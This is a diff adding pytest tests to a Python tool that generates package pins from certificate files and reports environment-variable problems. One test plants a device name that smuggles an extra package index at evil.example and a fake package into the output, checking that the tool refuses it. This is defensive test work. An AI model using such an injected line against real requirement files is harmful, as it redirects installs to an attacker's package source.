@@ -5,7 +5,7 @@ from __future__ import annotations
 import json
 import os
 from pathlib import Path
-from typing import Callable
+from typing import Any, Callable
 
 import pytest
 
@@ -58,3 +58,87 @@ def test_doctor_reports_a_torch_mismatch_without_importing(fake_site: Callable[.
         pytest.skip("the installed torch happens to match 0.2.5")
     assert data["abi"]["verdict"].startswith("refused") and not data["works"]
     assert any("built for torch==2.14.*" in p for p in data["problems"])
+
+
+# --------------------------------------------------------------------------- untrusted certificates
+
+
+def _committed(name: str) -> dict[str, Any]:
+    from dgcompat_conformance.certificate import COMMITTED
+
+    doc: dict[str, Any] = json.loads((COMMITTED / name).read_text())
+    return doc
+
+
+def test_pin_never_copies_an_injected_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    doc = _committed("gpu-0.1.4.json")
+    device = dict(doc["device"])
+    device["name"] = "NVIDIA H200\n--extra-index-url https://evil.example/simple\nevil-pkg==6.6.6"
+    (tmp_path / "gpu-0.1.4.json").write_text(json.dumps(dict(doc, device=device)))
+    assert pins.main(["--release", "0.1.4", "--certificates", str(tmp_path)]) == 2
+    out, err = capsys.readouterr()
+    assert "evil" not in out and "--extra-index-url" not in out
+    assert "gpu-0.1.4.json" in err and "device.name" in err and "Traceback" not in err
+    # The same certificate with an honest name pins as before.
+    (tmp_path / "gpu-0.1.4.json").write_text(json.dumps(doc))
+    assert pins.main(["--release", "0.1.4", "--certificates", str(tmp_path)]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    assert lines[:3] == ["sgl-deep-gemm==0.1.4", "torch==2.11.*", "sglang-kernel>=0.4.3"] and len(lines) == 4
+    assert lines[3] == "# certificates: gpu: certified on NVIDIA H200"
+
+
+@pytest.mark.parametrize("body, why", [
+    ("[1, 2, 3]", "JSON list"),
+    (None, "summary is not a count per outcome"),
+    ("{", "unreadable certificate"),
+])
+def test_pin_names_an_unsound_certificate(body: str | None, why: str, tmp_path: Path,
+                                          capsys: pytest.CaptureFixture[str]) -> None:
+    if body is None:
+        body = json.dumps(dict(_committed("cpu-0.1.4.json"), summary="137 passed"))
+    (tmp_path / "cpu-0.1.4.json").write_text(body)
+    for argv in (["--release", "0.1.4"], ["--docs"]):
+        assert pins.main([*argv, "--certificates", str(tmp_path)]) == 2
+        out, err = capsys.readouterr()
+        assert why in err and "cpu-0.1.4.json" in err and "Traceback" not in err, err
+        assert "sgl-deep-gemm==0.1.4" not in out
+
+
+def test_pin_rejects_bad_releases(capsys: pytest.CaptureFixture[str]) -> None:
+    assert pins.main(["--release", "banana"]) == 2
+    err = capsys.readouterr().err
+    assert "'banana' is not a release version" in err and "Traceback" not in err
+    assert pins.main(["--release", "0.1.4", "--dist", "torch"]) == 2
+    assert "--dist 'torch'" in capsys.readouterr().err
+    assert pins.main(["--release", "0.3.21", "--dist", "sgl_kernel"]) == 0
+    out = capsys.readouterr().out.splitlines()
+    assert out[0] == "sgl-kernel==0.3.21" and out[-1].startswith("# certificates: cpu-tier: PASS")
+
+
+# --------------------------------------------------------------------------- environment variables
+
+
+def test_doctor_lists_the_environment_and_flags_bad_values(monkeypatch: pytest.MonkeyPatch,
+                                                           capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.setenv("DGCOMPAT_BACKEND", "refrence")
+    monkeypatch.setenv("DGCOMPAT_ARCH", "sm999")
+    monkeypatch.setenv("DGCOMPAT_DEBUG", "yes")
+    monkeypatch.setenv("DGCOMPAT_BAKCEND", "reference")
+    monkeypatch.delenv("DGCOMPAT_TRUST_SCHEDULES", raising=False)
+    report = {v.name: v for v in doctor.environment_report()}
+    assert not report["DGCOMPAT_BACKEND"].valid and "reference" in report["DGCOMPAT_BACKEND"].accepted
+    assert not report["DGCOMPAT_ARCH"].valid and not report["DGCOMPAT_DEBUG"].valid
+    assert not report["DGCOMPAT_BAKCEND"].valid and "misspelt" in report["DGCOMPAT_BAKCEND"].meaning
+    assert report["DGCOMPAT_TRUST_SCHEDULES"].valid and report["DGCOMPAT_TRUST_SCHEDULES"].value is None
+    data = doctor.collect(run_abi=False)
+    assert any(p.startswith("DGCOMPAT_BACKEND='refrence'") for p in data["problems"])
+    assert any(p.startswith("DGCOMPAT_ARCH='sm999'") for p in data["problems"])
+    assert doctor.main(["--no-abi"]) in (0, 1)
+    out = capsys.readouterr().out
+    assert "environment" in out and "DGCOMPAT_BACKEND" in out and "INVALID" in out
+    for good in ("reference", "deep_gemm", "auto", ""):
+        monkeypatch.setenv("DGCOMPAT_BACKEND", good)
+        assert {v.name: v for v in doctor.environment_report()}["DGCOMPAT_BACKEND"].valid, good
+    for good in ("sm90", "sm100a", "90", "12.0"):
+        monkeypatch.setenv("DGCOMPAT_ARCH", good)
+        assert {v.name: v for v in doctor.environment_report()}["DGCOMPAT_ARCH"].valid, good
